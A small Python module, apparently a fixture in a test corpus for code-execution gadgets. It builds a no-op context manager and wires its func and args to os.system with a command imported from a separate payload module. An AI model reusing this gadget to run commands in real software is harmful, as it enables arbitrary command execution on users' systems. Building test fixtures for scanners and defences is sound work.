"""A context manager that decorates, and begins with a C function each time."""
CATEGORY = "callable"
REACH = "run"

import contextlib
import os

from . import payload


@contextlib.contextmanager
def nothing():
    yield


timed = nothing()
timed.func, timed.args = os.system, (payload.COMMAND,)
